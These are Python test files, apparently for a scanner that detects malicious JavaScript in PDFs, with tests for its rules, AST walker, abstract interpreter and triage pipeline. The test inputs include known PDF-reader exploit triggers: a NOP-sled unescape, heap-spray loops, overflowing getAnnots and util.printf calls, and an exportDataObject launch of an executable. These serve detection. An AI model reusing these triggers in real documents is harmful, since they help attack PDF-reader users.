        folded = fold_source('var s = "" + (-1e308 * 10);')
        assert "-Infinity" in const_strings(folded)

    def test_malformed_percent_sequences_pass_through(self):
        assert js_unescape("%u12%zz%") == "%u12%zz%"

    def test_unfoldable_rule_fires_at_info_only(self):
        from repro.jsast.analyzer import analyze_script

        report = analyze_script("var c = String.fromCharCode(1e308 * 10);")
        assert report.parse_error is None
        unfoldable = [f for f in report.findings if f.rule == "unfoldable"]
        assert unfoldable
        assert all(f.score == 0.0 for f in unfoldable)
        assert report.triage_eligible  # INFO advisory: not blocking
