"""The benign-triage fast path through ``pipeline.scan`` and the batch
layer around it."""

import pytest

from repro.batch.report import VerdictSummary
from repro.batch.scanner import _settings_fingerprint
from repro.core.pipeline import PipelineSettings, ProtectionPipeline
from repro.corpus import js_snippets as js
from repro.obs import MemorySink, Observability
from repro.pdf.builder import DocumentBuilder
from tests.conftest import spray_js


def doc(script=None, **kwargs):
    builder = DocumentBuilder()
    builder.add_page("triage test")
    if script is not None:
        builder.add_javascript(script, **kwargs)
    return builder.to_bytes()


@pytest.fixture()
def triage_pipeline():
    return ProtectionPipeline(seed=99, triage=True)


@pytest.fixture()
def full_pipeline():
    return ProtectionPipeline(seed=99, triage=False)


class TestFastPath:
    def test_no_js_document_is_triaged(self, triage_pipeline):
        report = triage_pipeline.scan(doc(), "plain.pdf")
        assert report.triaged
        assert report.outcome is None
        assert not report.verdict.malicious

    def test_clean_js_document_is_triaged(self, triage_pipeline):
        report = triage_pipeline.scan(doc("var x = 1 + 1;"), "clean.pdf")
        assert report.triaged
        assert not report.verdict.malicious

    def test_proven_malicious_document_is_triaged_malicious(
        self, triage_pipeline
    ):
        # Since the absint proof tier, a provable heap spray skips
        # emulation in the *other* direction: synthesized malicious.
        report = triage_pipeline.scan(doc(spray_js()), "mal.pdf")
        assert report.triaged
        assert report.outcome is None
        assert report.verdict.malicious
        assert any(
            r.startswith("statically proven:") for r in report.verdict.reasons
        )

    def test_unproven_suspicious_document_gets_full_emulation(
        self, triage_pipeline
    ):
        # A version-gated spray is *not* must-executed, so no proof —
        # suspicious findings then force full emulation, which still
        # convicts it at runtime (the gate passes on the emulated
        # reader version).
        gated = js.version_gated(spray_js(), min_version=8)
        report = triage_pipeline.scan(doc(gated), "gated.pdf")
        assert not report.triaged
        assert report.outcome is not None
        assert report.verdict.malicious

    def test_soap_side_effect_blocks_triage(self, triage_pipeline):
        report = triage_pipeline.scan(doc(js.benign_soap_script()), "soap.pdf")
        assert not report.triaged  # F9 fires at runtime; must emulate
        assert "network access (in-JS)" in report.verdict.reasons

    def test_unparseable_js_blocks_triage(self, triage_pipeline):
        report = triage_pipeline.scan(doc("var = ;;; <<<"), "broken-js.pdf")
        assert not report.triaged

    def test_triage_off_by_default(self, full_pipeline):
        report = full_pipeline.scan(doc(), "plain.pdf")
        assert not report.triaged
        assert report.outcome is not None

    def test_embedded_file_blocks_triage(self, triage_pipeline):
        builder = DocumentBuilder()
        builder.add_page("carrier")
        builder.add_embedded_file("inner.bin", b"some-payload")
        report = triage_pipeline.scan(builder.to_bytes(), "attach.pdf")
        assert not report.triaged

    def test_garbage_bytes_still_errored_not_raised(self, triage_pipeline):
        report = triage_pipeline.scan(b"not a pdf at all", "junk.pdf")
        assert report.errored
        assert not report.triaged


class TestVerdictEquivalence:
    @pytest.mark.parametrize(
        "name,script",
        [
            ("plain", None),
            ("clean-js", "var x = 40 + 2;"),
            ("form", 'var f = this.getField("total");'),
        ],
    )
    def test_triaged_verdict_identical_to_full_run(
        self, triage_pipeline, full_pipeline, name, script
    ):
        data = doc(script)
        fast = triage_pipeline.scan(data, f"{name}.pdf")
        slow = full_pipeline.scan(data, f"{name}.pdf")
        assert fast.triaged and not slow.triaged
        assert fast.verdict.malicious == slow.verdict.malicious
        assert fast.verdict.malscore == slow.verdict.malscore
        assert fast.verdict.features.bits == slow.verdict.features.bits
        assert fast.verdict.reasons == slow.verdict.reasons
        assert fast.did_nothing == slow.did_nothing


class TestReporting:
    def test_open_report_carries_static_evidence(self, triage_pipeline):
        report = triage_pipeline.scan(doc(spray_js()), "mal.pdf")
        assert report.js_analysis is not None
        assert report.js_analysis.suspicious
        assert report.js_analysis.proven_malicious
        payload = report.to_dict()
        assert payload["triaged"] is True
        assert payload["static_js"]["suspicious"] is True
        assert payload["static_js"]["proven_malicious"] is True
        assert payload["static_js"]["reports"]

    def test_triage_metrics(self):
        obs = Observability(MemorySink())
        pipeline = ProtectionPipeline(seed=99, triage=True, obs=obs)
        pipeline.scan(doc(), "plain.pdf")
        pipeline.scan(doc(spray_js()), "mal.pdf")
        pipeline.scan(doc(js.benign_soap_script()), "soap.pdf")
        assert obs.metrics.counter_value("triage", result="skipped") == 2
        assert obs.metrics.counter_value("triage", result="full") == 1
        assert obs.metrics.counter_value("triage_proven_benign") == 1
        assert obs.metrics.counter_value("triage_proven_malicious") == 1
        assert (
            obs.metrics.counter_value(
                "triage_failed_open", reason="side-effect-apis"
            )
            == 1
        )

    def test_verdict_summary_roundtrips_triaged(self, triage_pipeline):
        report = triage_pipeline.scan(doc(), "plain.pdf")
        summary = VerdictSummary.from_report(report)
        assert summary.triaged
        assert VerdictSummary.from_dict(summary.to_dict()) == summary


class TestCacheFingerprint:
    def test_fingerprint_incorporates_triage_flag(self):
        on = _settings_fingerprint(PipelineSettings(triage=True))
        off = _settings_fingerprint(PipelineSettings(triage=False))
        assert on != off

    def test_fingerprint_incorporates_ruleset_version(self):
        from repro.jsast.rules import ruleset_version

        assert f"jsast:{ruleset_version()}" in _settings_fingerprint(
            PipelineSettings()
        )
