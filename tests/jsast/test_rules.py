"""Per-rule behaviour: each rule fires on its idiom and stays quiet on
the benign look-alikes that share surface syntax with it."""

from repro.js.parser import parse
from repro.jsast.report import Severity
from repro.jsast.rules import (
    RULES,
    build_context,
    member_path,
    ruleset_version,
    side_effect_apis,
)
from repro.js import nodes as ast


def run_rule(rule_id, source):
    ctx = build_context(source, parse(source))
    return list(RULES[rule_id](ctx))


class TestRegistry:
    def test_all_expected_rules_registered(self):
        expected = {
            "unescape-sled",
            "heap-spray-loop",
            "spray-block-copy",
            "fromcharcode-density",
            "eval-computed-string",
            "long-string-obfuscation",
            "source-escape-density",
            "suspicious-acrobat-api",
            "getannots-overflow",
            "printf-width-overflow",
            "script-staging",
            "export-launch",
            "api-probe",
        }
        assert expected <= set(RULES)

    def test_version_is_stable(self):
        assert ruleset_version() == ruleset_version()
        assert ruleset_version().startswith("1.")


class TestMemberPath:
    def ctx(self, source):
        return build_context(source, parse(source))

    def test_dotted(self):
        ctx = self.ctx("Collab.getIcon(x);")
        assert any(c.path == "Collab.getIcon" for c in ctx.calls)

    def test_this_stripped(self):
        ctx = self.ctx("this.media.newPlayer(x);")
        assert any(c.path == "media.newPlayer" for c in ctx.calls)

    def test_computed_constant_resolves(self):
        ctx = self.ctx('this["exportData" + "Object"](x);')
        assert any(c.path == "exportDataObject" for c in ctx.calls)

    def test_computed_dynamic_unresolved(self):
        ctx = self.ctx("this[name](x);")
        assert any(c.path is None for c in ctx.calls)

    def test_member_path_helper(self):
        program = parse("a.b.c;")
        node = program.body[0].expression
        assert isinstance(node, ast.MemberExpression)
        ctx = self.ctx("var q = 0;")
        assert member_path(node, ctx.folder) == "a.b.c"


class TestUnescapeSled:
    def test_constant_sled_is_strong(self):
        findings = run_rule(
            "unescape-sled", 'var s = unescape("%u9090%u9090");'
        )
        assert findings and findings[0].severity == Severity.STRONG

    def test_computed_arg_is_suspicious(self):
        findings = run_rule("unescape-sled", "var s = unescape(q);")
        assert findings and findings[0].severity == Severity.SUSPICIOUS

    def test_fragmented_sled_still_caught(self):
        findings = run_rule(
            "unescape-sled",
            'var a = "%u90"; var b = "90"; var s = unescape(a + b);',
        )
        assert findings and findings[0].severity == Severity.STRONG

    def test_plain_percent_escapes_quiet(self):
        assert run_rule("unescape-sled", 'var s = unescape("a%20b");') == []


class TestHeapSprayLoop:
    def test_doubling_to_spray_size_fires(self):
        findings = run_rule(
            "heap-spray-loop", "while (s.length < 0x20000) s += s;"
        )
        assert findings and findings[0].severity == Severity.STRONG

    def test_benign_small_doubling_quiet(self):
        # The benign report builder doubles to at most 3072 chars.
        assert run_rule("heap-spray-loop", "while (line.length < 3072) line += line;") == []

    def test_explicit_self_concat_form(self):
        findings = run_rule(
            "heap-spray-loop", "while (s.length < 100000) s = s + s;"
        )
        assert len(findings) == 1

    def test_unrelated_loop_quiet(self):
        assert run_rule("heap-spray-loop", "while (i < 100000) i += 1;") == []


class TestSprayBlockCopy:
    def test_fires_at_info_only(self):
        findings = run_rule(
            "spray-block-copy",
            "for (var i = 0; i < 10; i++) { m[i] = c.substr(0, c.length); }",
        )
        assert findings and findings[0].severity == Severity.INFO


class TestFromCharCodeDensity:
    def test_long_chain_fires(self):
        chain = " + ".join(f"String.fromCharCode({65 + i})" for i in range(10))
        findings = run_rule("fromcharcode-density", f"var s = {chain};")
        assert findings and findings[0].severity == Severity.SUSPICIOUS

    def test_single_call_quiet(self):
        assert run_rule("fromcharcode-density", "var s = String.fromCharCode(65);") == []


class TestEval:
    def test_computed_eval_is_strong(self):
        findings = run_rule("eval-computed-string", "eval(payload);")
        assert findings and findings[0].severity == Severity.STRONG

    def test_constant_eval_queued_for_reanalysis(self):
        source = 'eval("var x = 1;");'
        ctx = build_context(source, parse(source))
        findings = list(RULES["eval-computed-string"](ctx))
        assert findings and findings[0].severity == Severity.INFO
        assert ctx.nested == [("eval-arg", "var x = 1;")]

    def test_folded_concat_eval_is_constant(self):
        source = 'eval("var x" + " = 1;");'
        ctx = build_context(source, parse(source))
        list(RULES["eval-computed-string"](ctx))
        assert ctx.nested == [("eval-arg", "var x = 1;")]


class TestLongStringObfuscation:
    def test_hex_blob(self):
        findings = run_rule(
            "long-string-obfuscation", f'var x = "{"41" * 200}";'
        )
        assert any(f.severity == Severity.SUSPICIOUS for f in findings)

    def test_embedded_percent_u_units(self):
        findings = run_rule(
            "long-string-obfuscation", f'var x = "{"%u9090" * 12}";'
        )
        assert any(f.severity == Severity.STRONG for f in findings)

    def test_normal_prose_quiet(self):
        prose = "the quick brown fox jumps over the lazy dog " * 30
        assert run_rule("long-string-obfuscation", f'var x = "{prose}";') == []


class TestApiRules:
    def test_collab_geticon(self):
        findings = run_rule("suspicious-acrobat-api", "Collab.getIcon(x);")
        assert findings and findings[0].severity == Severity.STRONG

    def test_media_newplayer_via_this(self):
        assert run_rule("suspicious-acrobat-api", "this.media.newPlayer(x);")

    def test_getannots_overflow(self):
        findings = run_rule(
            "getannots-overflow", "this.getAnnots({nPage: 284050648});"
        )
        assert findings and findings[0].severity == Severity.STRONG

    def test_getannots_normal_page_quiet(self):
        assert run_rule("getannots-overflow", "this.getAnnots({nPage: 3});") == []

    def test_printf_overflow(self):
        findings = run_rule(
            "printf-width-overflow",
            'util.printf("%45000.45000f", 362.0e-30);',
        )
        assert findings and findings[0].severity == Severity.STRONG

    def test_benign_printf_quiet(self):
        assert run_rule(
            "printf-width-overflow", 'util.printf("Printed on %s", stamp);'
        ) == []

    def test_script_staging(self):
        findings = run_rule(
            "script-staging", 'this.addScript("x", code); app.setTimeOut(code, 10);'
        )
        assert {f.message for f in findings} == {
            "runtime script staging via addScript()",
            "runtime script staging via setTimeOut()",
        }

    def test_export_launch_strong_when_launching(self):
        findings = run_rule(
            "export-launch",
            'this.exportDataObject({cName: "invoice.exe", nLaunch: 2});',
        )
        assert findings and findings[0].severity == Severity.STRONG

    def test_export_without_launch_suspicious(self):
        findings = run_rule(
            "export-launch", 'this.exportDataObject({cName: "data.csv"});'
        )
        assert findings and findings[0].severity == Severity.SUSPICIOUS

    def test_api_probe(self):
        findings = run_rule(
            "api-probe", "var a = this.hostContainer.postMessage;"
        )
        assert findings and "hostContainer" in findings[0].message


class TestSideEffectApis:
    def detected(self, source):
        ctx = build_context(source, parse(source))
        return side_effect_apis(ctx)

    def test_soap_request(self):
        assert self.detected("SOAP.request({cURL: u});") == ["SOAP.request"]

    def test_export_data_object(self):
        assert "exportDataObject" in self.detected(
            "this.exportDataObject({cName: 'f'});"
        )

    def test_staging_methods_counted(self):
        assert self.detected("app.setTimeOut(code, 5);") == ["app.setTimeOut"]

    def test_member_access_without_call_counts(self):
        assert self.detected("var f = SOAP.request;") == ["SOAP.request"]

    def test_clean_script_empty(self):
        assert self.detected("var x = this.numPages + 1;") == []
