"""The abstract interpreter over ``repro.js.nodes`` (ISSUE 8 tentpole).

Covers layer peeling through constant ``eval``/``document.write``,
must-execution tracking across branches/loops/try, spray-fact
collection with trip-count lower bounds, and the budget/fail-open
discipline.
"""

import random

import pytest

from repro.corpus import js_snippets as js
from repro.corpus.obfuscated import obfuscated_spray_script, wrap_eval_layers
from repro.jsast.absint import (
    CHANNEL_EXPLOIT,
    CHANNEL_OPAQUE_EVAL,
    AbsintBudgetExceeded,
    interpret_script,
)
from repro.reader.payload import Payload

pytestmark = pytest.mark.absint


def spray(mb=150, cve="CVE-2009-0927", **kwargs):
    return js.spray_script(
        mb,
        Payload.dropper(),
        rng=random.Random(1),
        exploit_call=js.exploit_call_for(cve, random.Random(1)),
        **kwargs,
    )


class TestLayerPeeling:
    def test_constant_eval_layer_is_entered(self):
        result = interpret_script('eval("var x = 1;");')
        assert result.status == "ok"
        assert result.max_depth == 1
        assert all(layer.parse_error is None for layer in result.layers)

    def test_three_nested_layers_peel_with_must(self):
        inner = "var x = 1;"
        code = wrap_eval_layers(inner, 3)
        result = interpret_script(code)
        assert result.max_depth == 3
        assert all(layer.must for layer in result.layers)
        assert not result.channels

    def test_abstract_eval_argument_is_a_channel(self):
        result = interpret_script("eval(app.doc.path);")
        assert any(c.kind == CHANNEL_OPAQUE_EVAL for c in result.channels)

    def test_depth_cap_becomes_opaque_channel(self):
        code = "var x = 1;"
        for _ in range(20):  # far past MAX_EVAL_DEPTH
            code = f'eval({js_string(code)});'
        result = interpret_script(code)
        assert any(c.kind == CHANNEL_OPAQUE_EVAL for c in result.channels)


def js_string(code):
    escaped = code.replace("\\", "\\\\").replace('"', '\\"')
    return f'"{escaped}"'


class TestSprayFacts:
    def test_corpus_spray_proves_must_fill(self):
        result = interpret_script(spray())
        must_fills = [f for f in result.fills if f.must]
        assert must_fills
        fill = max(must_fills, key=lambda f: f.bytes_lo)
        assert fill.sled_lo >= 0x4000
        assert fill.trip_lo >= 1
        assert fill.bytes_lo >= 100 * 1024 * 1024

    def test_spray_exploit_call_is_exploit_channel(self):
        result = interpret_script(spray())
        assert any(c.kind == CHANNEL_EXPLOIT for c in result.channels)

    def test_obfuscated_spray_peels_and_proves(self):
        code = obfuscated_spray_script(target_mb=120, layers=3)
        result = interpret_script(code)
        assert result.max_depth == 3
        assert all(layer.must for layer in result.layers)
        deep_fills = [f for f in result.fills if f.must and f.layer == 3]
        assert deep_fills
        assert max(f.bytes_lo for f in deep_fills) >= 100 * 1024 * 1024

    def test_title_hidden_payload_still_proves_sled_carrier(self):
        code = spray(hide_payload_in_title=True)
        result = interpret_script(code)
        must_fills = [f for f in result.fills if f.must]
        assert must_fills
        assert max(f.bytes_lo for f in must_fills) >= 100 * 1024 * 1024


class TestMustExecution:
    def test_version_gate_defeats_must(self):
        gated = js.version_gated(spray(), min_version=8)
        result = interpret_script(gated)
        assert not any(f.must for f in result.fills)
        # ... but the exploit channel is still visible (may-reachable).
        assert any(c.kind == CHANNEL_EXPLOIT for c in result.channels)

    def test_throw_before_fill_defeats_must(self):
        code = 'throw "x";\n' + spray()
        result = interpret_script(code)
        assert not any(f.must for f in result.fills)

    def test_try_wrapped_api_probe_defeats_must(self):
        code = "try { app.media.newPlayer(null); } catch (e) {}\n" + spray()
        result = interpret_script(code)
        # The probe may or may not throw, but the catch contains it:
        # the spray after the try still must-executes.
        assert any(f.must for f in result.fills)

    def test_unknown_call_before_fill_defeats_must(self):
        code = "mystery();\n" + spray()
        result = interpret_script(code)
        assert not any(f.must for f in result.fills)

    def test_export_launch_is_must_fact(self):
        result = interpret_script(js.export_launch_script("invoice.exe"))
        must_exports = [e for e in result.exports if e.must]
        assert must_exports
        assert must_exports[0].launch is not None
        assert must_exports[0].launch >= 1
        assert must_exports[0].name == "invoice.exe"


class TestBenignPrograms:
    @pytest.mark.parametrize(
        "script",
        [
            js.benign_form_script(random.Random(3)),
            js.benign_page_script(),
            js.benign_report_script(4, 40, random.Random(3)),
        ],
        ids=["form", "page", "report"],
    )
    def test_benign_scripts_are_channel_free(self, script):
        result = interpret_script(script)
        assert result.status == "ok"
        assert not result.channels
        assert not result.fills

    def test_soap_script_is_not_channel_free(self):
        result = interpret_script(js.benign_soap_script())
        # SOAP.request is a scored side-effect API: either a channel or
        # a side-effect note must block the benign proof.
        blocked = bool(result.channels) or any(
            layer.side_effect_apis for layer in result.layers
        )
        assert blocked


class TestBudget:
    def test_budget_exhaustion_is_reported_not_raised(self):
        result = interpret_script(spray(), max_steps=40)
        assert result.status == "budget-exhausted"

    def test_budget_exception_never_escapes(self):
        # interpret_script catches AbsintBudgetExceeded internally.
        result = interpret_script("var i = 0; " * 2000, max_steps=10)
        assert result.status == "budget-exhausted"
        assert isinstance(AbsintBudgetExceeded(), Exception)

    def test_steps_accounted(self):
        result = interpret_script("var x = 1 + 2;")
        assert result.status == "ok"
        assert result.steps > 0


class TestResultSerialisation:
    def test_to_dict_roundtrips_shapes(self):
        result = interpret_script(spray())
        payload = result.to_dict()
        assert payload["status"] == "ok"
        assert payload["fills"]
        assert {"array", "layer", "unit", "bytes_lo", "must"} <= set(
            payload["fills"][0]
        )
        assert isinstance(payload["layers"], list)
