"""Walker/visitor framework over the repro.js AST."""

from repro.js import nodes as ast
from repro.js.parser import parse
from repro.jsast.walk import NodeVisitor, iter_child_nodes, walk


class TestIterChildNodes:
    def test_plain_node_fields(self):
        node = ast.BinaryExpression("+", ast.Identifier("a"), ast.Identifier("b"))
        children = list(iter_child_nodes(node))
        assert [c.name for c in children] == ["a", "b"]

    def test_list_fields(self):
        program = parse("f(1, 2, 3);")
        call = program.body[0].expression
        assert len(list(iter_child_nodes(call))) == 4  # callee + 3 args

    def test_tuple_list_fields_var_declaration(self):
        node = parse("var a = 1, b, c = 'x';").body[0]
        inits = list(iter_child_nodes(node))
        # b has no initialiser; only the two init nodes are children.
        assert len(inits) == 2

    def test_tuple_list_fields_object_literal(self):
        obj = parse("x({a: 1, b: y});").body[0].expression.arguments[0]
        assert isinstance(obj, ast.ObjectLiteral)
        assert len(list(iter_child_nodes(obj))) == 2

    def test_none_fields_skipped(self):
        node = parse("if (a) b;").body[0]
        assert all(isinstance(c, ast.Node) for c in iter_child_nodes(node))


class TestWalk:
    def test_yields_root_first(self):
        program = parse("var a = 1;")
        assert next(iter(walk(program))) is program

    def test_reaches_deep_nodes(self):
        program = parse("while (s.length < 10) { s += s; }")
        kinds = {type(n).__name__ for n in walk(program)}
        assert "WhileStatement" in kinds
        assert "AssignmentExpression" in kinds
        assert "MemberExpression" in kinds

    def test_source_order(self):
        program = parse("var a = 1; var b = 2;")
        names = [
            name
            for node in walk(program)
            if isinstance(node, ast.VarDeclaration)
            for name, _init in node.declarations
        ]
        assert names == ["a", "b"]

    def test_counts_every_node_once(self):
        program = parse("f(a + b, c);")
        nodes = list(walk(program))
        assert len(nodes) == len({id(n) for n in nodes})


class TestNodeVisitor:
    def test_dispatch_by_type(self):
        seen = []

        class V(NodeVisitor):
            def visit_Identifier(self, node):
                seen.append(node.name)

        # Unhandled types fall through to generic_visit, which recurses,
        # so every identifier in the tree is reached.
        V().visit(parse("a + b * c;"))
        assert sorted(seen) == ["a", "b", "c"]

    def test_handled_type_stops_recursion_unless_requested(self):
        seen = []

        class V(NodeVisitor):
            def visit_BinaryExpression(self, node):
                seen.append(node.op)  # no generic_visit: no recursion

        V().visit(parse("a + b * c;"))
        assert seen == ["+"]  # the nested * is never reached

    def test_generic_visit_recurses_by_default(self):
        calls = []

        class V(NodeVisitor):
            def visit_CallExpression(self, node):
                calls.append(node)
                self.generic_visit(node)

        V().visit(parse("f(g(h()));"))
        assert len(calls) == 3
