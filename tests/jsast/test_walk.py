"""Walker/visitor framework over the repro.js AST."""

import dataclasses
import inspect

import pytest

from repro.js import nodes as ast
from repro.js.parser import parse
from repro.jsast.walk import NodeVisitor, iter_child_nodes, walk


def _all_node_kinds():
    """Every concrete Node subclass defined in repro.js.nodes."""
    return sorted(
        (
            cls
            for _name, cls in inspect.getmembers(ast, inspect.isclass)
            if issubclass(cls, ast.Node)
            and cls is not ast.Node
            and dataclasses.is_dataclass(cls)
        ),
        key=lambda cls: cls.__name__,
    )


def _make_node(cls):
    """Minimal instance of ``cls`` with Identifier leaves for children.

    Field values are synthesised from the annotation text, so a new
    node kind with a new child-field shape fails loudly here instead of
    being silently skipped by introspection-based walking."""
    values = []
    for field in dataclasses.fields(cls):
        ann = str(field.type)
        if "List[Tuple[str, Optional[Node]]]" in ann:
            values.append([("a", ast.Identifier("leaf")), ("b", None)])
        elif "List[Tuple[str, Node]]" in ann:
            values.append([("a", ast.Identifier("leaf"))])
        elif "List[str]" in ann:
            values.append(["p"])
        elif "List[SwitchCase]" in ann:
            values.append([ast.SwitchCase(None, [ast.Identifier("leaf")])])
        elif "List[Node]" in ann:
            values.append([ast.Identifier("leaf")])
        elif "Block" in ann:
            values.append(ast.Block([ast.Identifier("leaf")]))
        elif "Optional[Node]" in ann or ann == "Node":
            values.append(ast.Identifier("leaf"))
        elif "Optional[str]" in ann or ann == "str":
            values.append("x")
        elif ann == "bool":
            values.append(False)
        elif ann == "float":
            values.append(0.0)
        else:
            raise AssertionError(
                f"{cls.__name__}.{field.name}: unhandled annotation {ann!r} — "
                "teach _make_node about it"
            )
    return cls(*values)


class TestNodeKindExhaustiveness:
    """Guard: every node kind instantiates, walks, and dispatches.

    The abstract interpreter and the rule walkers rely on the generic
    field-introspection walker reaching every child of every node kind;
    these tests fail on any new node kind whose children the
    conventions here do not cover."""

    @pytest.mark.parametrize(
        "cls", _all_node_kinds(), ids=lambda cls: cls.__name__
    )
    def test_walk_reaches_node_and_its_children(self, cls):
        node = _make_node(cls)
        walked = list(walk(node))
        assert walked[0] is node
        expected_children = list(iter_child_nodes(node))
        for child in expected_children:
            assert child in walked
        leaves = [
            n for n in walked
            if isinstance(n, ast.Identifier) and n.name == "leaf"
        ]
        has_child_field = any(
            isinstance(getattr(node, f.name), (ast.Node, list))
            for f in dataclasses.fields(node)
        )
        if has_child_field and expected_children:
            assert leaves, f"{cls.__name__}: no leaf child was walked"

    def test_visitor_dispatches_every_kind(self):
        kinds = _all_node_kinds()
        program = ast.Program(
            body=[_make_node(cls) for cls in kinds if cls is not ast.Program]
        )
        seen = set()

        class Recorder(NodeVisitor):
            def visit(self, node):
                seen.add(type(node))
                return self.generic_visit(node)

        Recorder().visit(program)
        missing = {cls.__name__ for cls in kinds} - {
            cls.__name__ for cls in seen
        }
        assert not missing, f"visitor never reached: {sorted(missing)}"


class TestIterChildNodes:
    def test_plain_node_fields(self):
        node = ast.BinaryExpression("+", ast.Identifier("a"), ast.Identifier("b"))
        children = list(iter_child_nodes(node))
        assert [c.name for c in children] == ["a", "b"]

    def test_list_fields(self):
        program = parse("f(1, 2, 3);")
        call = program.body[0].expression
        assert len(list(iter_child_nodes(call))) == 4  # callee + 3 args

    def test_tuple_list_fields_var_declaration(self):
        node = parse("var a = 1, b, c = 'x';").body[0]
        inits = list(iter_child_nodes(node))
        # b has no initialiser; only the two init nodes are children.
        assert len(inits) == 2

    def test_tuple_list_fields_object_literal(self):
        obj = parse("x({a: 1, b: y});").body[0].expression.arguments[0]
        assert isinstance(obj, ast.ObjectLiteral)
        assert len(list(iter_child_nodes(obj))) == 2

    def test_none_fields_skipped(self):
        node = parse("if (a) b;").body[0]
        assert all(isinstance(c, ast.Node) for c in iter_child_nodes(node))


class TestWalk:
    def test_yields_root_first(self):
        program = parse("var a = 1;")
        assert next(iter(walk(program))) is program

    def test_reaches_deep_nodes(self):
        program = parse("while (s.length < 10) { s += s; }")
        kinds = {type(n).__name__ for n in walk(program)}
        assert "WhileStatement" in kinds
        assert "AssignmentExpression" in kinds
        assert "MemberExpression" in kinds

    def test_source_order(self):
        program = parse("var a = 1; var b = 2;")
        names = [
            name
            for node in walk(program)
            if isinstance(node, ast.VarDeclaration)
            for name, _init in node.declarations
        ]
        assert names == ["a", "b"]

    def test_counts_every_node_once(self):
        program = parse("f(a + b, c);")
        nodes = list(walk(program))
        assert len(nodes) == len({id(n) for n in nodes})


class TestNodeVisitor:
    def test_dispatch_by_type(self):
        seen = []

        class V(NodeVisitor):
            def visit_Identifier(self, node):
                seen.append(node.name)

        # Unhandled types fall through to generic_visit, which recurses,
        # so every identifier in the tree is reached.
        V().visit(parse("a + b * c;"))
        assert sorted(seen) == ["a", "b", "c"]

    def test_handled_type_stops_recursion_unless_requested(self):
        seen = []

        class V(NodeVisitor):
            def visit_BinaryExpression(self, node):
                seen.append(node.op)  # no generic_visit: no recursion

        V().visit(parse("a + b * c;"))
        assert seen == ["+"]  # the nested * is never reached

    def test_generic_visit_recurses_by_default(self):
        calls = []

        class V(NodeVisitor):
            def visit_CallExpression(self, node):
                calls.append(node)
                self.generic_visit(node)

        V().visit(parse("f(g(h()));"))
        assert len(calls) == 3
