"""Script/document analysis drivers: fail-open guarantees, eval
provenance, unparseable-js handling, document guards."""


from repro.jsast import analyze_script
from repro.jsast.analyzer import (
    GUARD_EMBEDDED_FILE,
    GUARD_RICH_MEDIA,
    DocumentJSAnalysis,
    analyze_document,
)
from repro.jsast.report import JSStaticReport, Severity
from repro.jsast.rules import RULES
from repro.obs import MemorySink, Observability
from repro.pdf.builder import DocumentBuilder
from repro.pdf.document import PDFDocument


class TestAnalyzeScript:
    def test_clean_script(self):
        report = analyze_script("var x = 1 + 2;")
        assert report.findings == []
        assert report.triage_eligible
        assert report.obfuscation_score == 0.0

    def test_unparseable_becomes_finding_not_exception(self):
        # Satellite: JSSyntaxError must surface as a structured finding.
        report = analyze_script("var = ;;; <<<")
        assert report.parse_error is not None
        assert [f.rule for f in report.findings] == ["unparseable-js"]
        assert report.findings[0].severity == Severity.SUSPICIOUS
        assert not report.triage_eligible

    def test_empty_script(self):
        report = analyze_script("")
        assert report.triage_eligible

    def test_eval_provenance(self):
        report = analyze_script('eval("Collab.getIcon(q);");')
        assert "eval:suspicious-acrobat-api" in report.rules_fired()
        assert report.suspicious

    def test_eval_nested_side_effects_propagate(self):
        report = analyze_script('eval("SOAP.request({cURL: u});");')
        assert "SOAP.request" in report.side_effect_apis
        assert not report.triage_eligible

    def test_eval_of_garbage_poisons_parent(self):
        report = analyze_script('eval("<<< not js");')
        assert not report.triage_eligible
        assert any(f.rule == "eval:unparseable-js" for f in report.findings)

    def test_deep_eval_nesting_bounded(self):
        nested = 'eval("eval(\\"eval(1)\\");");'
        report = analyze_script(nested)
        # Bounded recursion must terminate and stay ineligible-safe.
        assert isinstance(report, JSStaticReport)

    def test_crashing_rule_fails_open(self, monkeypatch):
        def boom(ctx):
            raise RuntimeError("rule exploded")

        monkeypatch.setitem(RULES, "test-boom", boom)
        try:
            report = analyze_script("var x = 1;")
        finally:
            del RULES["test-boom"]
        assert any(f.rule == "analysis-error" for f in report.findings)
        assert not report.triage_eligible  # fail-open: no triage

    def test_obfuscation_score_capped(self):
        sled = 'var s = unescape("%u9090%u9090");' * 10
        report = analyze_script(sled)
        assert report.obfuscation_score <= 10.0

    def test_emits_span_and_metrics(self):
        obs = Observability(MemorySink())
        analyze_script("Collab.getIcon(q);", obs=obs)
        names = [s["name"] for s in obs.sink.spans]
        assert "jsast.analyze" in names
        assert (
            obs.metrics.counter_value(
                "jsast_findings", rule="suspicious-acrobat-api"
            )
            == 1
        )

    def test_report_roundtrips_through_dict(self):
        report = analyze_script('var s = unescape("%u9090%u9090");')
        clone = JSStaticReport.from_dict(report.to_dict())
        assert clone.rules_fired() == report.rules_fired()
        assert clone.suspicious == report.suspicious
        assert clone.triage_eligible == report.triage_eligible


def doc_from_builder(builder):
    return PDFDocument.from_bytes(builder.to_bytes())


class TestAnalyzeDocument:
    def test_no_javascript_is_eligible(self):
        builder = DocumentBuilder()
        builder.add_page("plain")
        analysis = analyze_document(doc_from_builder(builder))
        assert analysis.reports == []
        assert analysis.triage_eligible

    def test_clean_javascript_is_eligible(self):
        builder = DocumentBuilder()
        builder.add_page("js")
        builder.add_javascript("var x = 1 + 1;")
        analysis = analyze_document(doc_from_builder(builder))
        assert len(analysis.reports) == 1
        assert analysis.triage_eligible

    def test_suspicious_javascript_blocks_triage(self):
        builder = DocumentBuilder()
        builder.add_page("mal")
        builder.add_javascript('var s = unescape("%u9090%u9090");')
        analysis = analyze_document(doc_from_builder(builder))
        assert analysis.suspicious
        assert not analysis.triage_eligible

    def test_embedded_file_guard(self):
        builder = DocumentBuilder()
        builder.add_page("carrier")
        builder.add_embedded_file("inner.bin", b"payload-bytes")
        analysis = analyze_document(doc_from_builder(builder))
        assert GUARD_EMBEDDED_FILE in analysis.guards
        assert not analysis.triage_eligible

    def test_render_exploit_guard(self):
        builder = DocumentBuilder()
        builder.add_page("render")
        builder.add_render_exploit("CVE-2010-1297", "flash")
        analysis = analyze_document(doc_from_builder(builder))
        assert GUARD_RICH_MEDIA in analysis.guards
        assert not analysis.triage_eligible

    def test_multiple_scripts_all_analysed(self):
        builder = DocumentBuilder()
        builder.add_page("multi")
        builder.add_javascript("var a = 1;")
        builder.add_javascript("var b = 2;", trigger="Names", name="second")
        analysis = analyze_document(doc_from_builder(builder))
        assert len(analysis.reports) == 2
        assert analysis.triage_eligible

    def test_to_dict_roundtrip(self):
        builder = DocumentBuilder()
        builder.add_page("js")
